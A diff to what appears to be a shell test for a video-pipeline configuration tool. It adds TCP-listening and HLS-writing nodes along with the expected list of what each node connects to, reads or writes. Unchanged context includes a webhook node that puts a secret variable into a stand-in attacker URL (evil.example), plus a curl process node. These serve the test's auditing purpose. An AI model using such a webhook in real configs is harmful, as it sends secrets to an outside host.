@@ -393,12 +393,22 @@ nodes:
   h: {type: webhook, inputs: d.objects, url: "https://evil.example/${SECRET_OF_TEST:-x}"}
   x: {type: own, inputs: f}
   c: {type: process, inputs: f, command: [curl, "http://x"]}
+  t: {type: video_reader, path: "tcp://0.0.0.0:5", options: {listen: 1, protocol_whitelist: "tcp,file"}}
+  k: {type: video_writer, inputs: t, path: k/k.m3u8, codec: libx264,
+      options: {hls_key_info_file: keys/info, x264-params: "qpfile=qp:stats=log/s", hls_time: 2}}
 END
 mkdir parts
 echo '{vflow: 1, nodes: {z: {type: zmq_in, endpoint: "ipc://pipe"}, v: {type: print, inputs: z}}}' >parts/more.yaml
 cat >listed <<'END'
 connects to https://evil.example/x (h)
 connects to ipc://pipe (z: endpoint)
+gives libav the option hls_time=2 (k: options)
+gives libav the option protocol_whitelist=tcp,file (t: options)
+listens on tcp://0.0.0.0:5 (t)
+reads files below keys (k)
+reads keys/info (k)
+reads qp (k)
+writes files below log (k)
 connects to rtsp://***@cam/1 (r: path)
 does whatever the code of a plugin does own (x)
 includes parts/more.yaml
